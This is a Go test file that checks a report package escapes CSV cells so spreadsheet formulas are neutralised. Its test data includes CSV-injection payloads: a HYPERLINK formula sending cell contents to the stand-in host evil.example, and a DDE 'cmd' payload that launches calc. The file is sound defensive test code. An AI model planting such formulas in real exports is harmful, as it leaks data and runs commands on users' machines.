package report_test

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	"github.com/normgym/normgym/sim/report"
)

func TestCSVCell(t *testing.T) {
	tests := []struct {
		name, in, want string
	}{
		{"empty", "", ""},
		{"plain text", "observer", "observer"},
		{"formula", `=HYPERLINK("http://evil.example/?"&A1,"open")`, `'=HYPERLINK("http://evil.example/?"&A1,"open")`},
		{"plus formula", "+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"},
		{"minus formula", "-2+3", "'-2+3"},
		{"at", "@SUM(A1:A2)", "'@SUM(A1:A2)"},
		{"tab", "\t=1", "'\t=1"},
		{"carriage return", "\r=1", "'\r=1"},
		{"lone sign", "-", "'-"},
		{"dash word", "-model", "'-model"},
		{"negative integer", "-1", "-1"},
		{"positive decimal", "+2.5", "+2.5"},
		{"exponent", "-3e-2", "-3e-2"},
		{"bad exponent", "-3e", "'-3e"},
		{"infinity", "-Inf", "'-Inf"},
		{"equals inside", "a=b", "a=b"},
		{"leading space", " =1", " =1"},
		{"model name", "model:gpt-x", "model:gpt-x"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := report.CSVCell(tt.in); got != tt.want {
				t.Errorf("CSVCell(%q) = %q, want %q", tt.in, got, tt.want)
			}
		})
	}
}

func TestCSVRow(t *testing.T) {
	row := report.CSVRow([]string{"=1+1", "ok", "-1"})
	if got, want := strings.Join(row, "|"), "'=1+1|ok|-1"; got != want {
		t.Errorf("CSVRow = %q, want %q", got, want)
	}
}

// TestCSVNeutralised writes a summary whose agent is a formula and reads
// the CSV back: no cell starts a formula.
func TestCSVNeutralised(t *testing.T) {
	var buf bytes.Buffer
	sums := []report.Summary{{Agent: "=HYPERLINK(\"http://evil.example\")"}}
	if err := report.CSV(&buf, sums); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) < 2 {
		t.Fatalf("%d rows, want a header and the agent's row", len(rows))
	}
	for _, r := range rows {
		for _, c := range r {
			if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) && report.CSVCell(c) != c {
				t.Errorf("cell %q starts a formula", c)
			}
		}
	}
	if got, want := rows[1][0], `'=HYPERLINK("http://evil.example")`; got != want {
		t.Errorf("agent cell = %q, want %q", got, want)
	}
}
